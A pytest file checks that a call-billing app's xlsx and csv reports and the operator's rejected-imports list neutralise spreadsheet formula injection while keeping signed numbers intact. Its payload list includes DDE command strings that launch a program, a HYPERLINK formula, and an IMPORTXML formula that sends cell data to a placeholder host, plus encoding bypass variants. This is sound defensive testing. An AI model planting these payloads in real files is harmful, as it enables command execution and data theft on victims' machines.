"""Texts that spreadsheets take for formulas, in every column that holds a text from outside: they
stay what they are, and so do numbers that begin with a sign.
"""

import csv
import io
import re
import shutil
from datetime import datetime

import openpyxl
import pytest

from jobs import imports as import_job
from models import ImportRun
from services import queue, reports
from tests.blueprints.operator.test_imports import form
from tests.factories import NOON, make_call, make_client, make_order, make_subscriber
from tests.services.test_imports import later

FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=A1", "=DDE(A1)"),
    *("@SUM(1+1)*cmd|''!A0", '=HYPERLINK("http://x.by","here")', "=WEBSERVICE(A1)", "+1+1", "-1+1"),
    *('=IMPORTXML(CONCAT("http://x.by/",A1),"//a")', "@A1", "==1", "=-1", "-2+3+cmd|''!A0", "="),
    *("+", "-", "@", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\x02=1+1", "\x01=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠A1", "=1;=2", '=1"', '";=1+1;"', "x\n=1+1", "x\r=1+1"),
    *("%0A=1+1", "\u200b=1+1", "+375 29x"),
]
NUMBERS = ["+375291234567", "-5", "+5", "-5.25", "-5,25", "375291234567", "00123", "5"]
STARTS = tuple("=+-@＝＋－＠\t\r\n")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")


def without_control(text):
    """What can stand in a cell of `text`."""
    spaced = re.sub(r"[\t\r\n]", " ", text)
    return "".join(sign for sign in spaced if ord(sign) > 31)


@pytest.fixture
def made(base, app):
    """Make an order's file with `text` wherever a text can be; its path."""

    def render(text, file_format):
        client = make_client(name=text, account_no=text)
        subscriber = make_subscriber(client, number=text, full_name=text, plan=text)
        make_call(subscriber, number=text, peer=text, uid=text)
        params = {"format": file_format, "excluded": [text]}
        order = make_order(client, [subscriber], params=params)
        rendered = reports.render(order, made_at=NOON, progress=lambda *_: None)
        return app.config["CABINET"].artefact_dir / rendered.path

    return render


@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS], ids=ascii)
def test_no_cell_of_a_workbook_is_a_formula_and_none_is_changed(made, text):
    book = openpyxl.load_workbook(made(text, "xlsx"))
    found = 0
    for sheet in book:
        for cell in (cell for line in sheet.iter_rows() for cell in line):
            assert cell.data_type != "f", cell.coordinate
            assert cell.hyperlink is None
            if cell.value == without_control(text):
                assert cell.data_type == "s"
                found += 1
    # the call's number, name, peer and id; the head's client, account and excluded; two of the
    # sums, two of the costs
    assert found == 11


@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS], ids=ascii)
def test_no_field_of_a_csv_begins_as_a_formula_does(made, text):
    content = made(text, "csv").read_text("utf-8-sig")
    header, line = csv.reader(io.StringIO(content, newline=""), delimiter=";", strict=True)
    texts = {name: line[header.index(name)] for name in ("Ф.И.О.", "ID записи")}
    phones = {name: line[header.index(name)] for name in ("Номер абонента", "Собеседник")}
    for field in line:
        assert not field.lstrip().startswith(STARTS) or PLAIN_NUMBER.fullmatch(field)
    shown = without_control(text)
    if text in NUMBERS:
        assert set(texts.values()) == {text}, "a number keeps its value"
        assert set(phones.values()) == {text.removeprefix("+")}
    else:
        assert {*texts.values(), *phones.values()} <= {shown, f"'{shown}"}
    assert {datetime.strptime(line[0], "%d.%m.%Y").date()} == {NOON.date()}


def test_refused_lines_for_the_operators_spreadsheet_are_texts_too(
    operator_browser, client_row, app, monkeypatch
):
    monkeypatch.setattr(queue, "hint_import", lambda _id: True)
    make_subscriber(client_row, number="375171234567")
    bad = [later(0, billsec="-1", clid=text, userfield=text) for text in FORMULAS]
    sent = form(("a.csv", [later(1), *bad]))
    operator_browser.post("operator.imports.upload", sent)
    run = ImportRun.get()
    import_job.read(run.id)
    content = operator_browser.get("operator.imports.rejects", run=run.id).data.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(content, newline=""), delimiter=";", strict=True))
    assert len(lines) > len(FORMULAS)
    for field in (field for line in lines for field in line):
        assert not field.lstrip().startswith(STARTS) or PLAIN_NUMBER.fullmatch(field)
    shutil.rmtree(app.config["CABINET"].upload_dir, ignore_errors=True)
